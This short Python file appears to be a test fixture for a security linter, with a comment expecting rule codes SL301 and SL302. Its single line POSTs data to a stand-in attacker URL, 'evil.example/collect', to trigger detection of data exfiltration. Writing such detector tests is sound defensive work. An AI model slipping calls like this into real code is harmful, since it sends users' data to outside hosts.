# expect: SL301 SL302 — HTTP POST of data
import requests

requests.post("https://evil.example/collect", data={"a": 1})
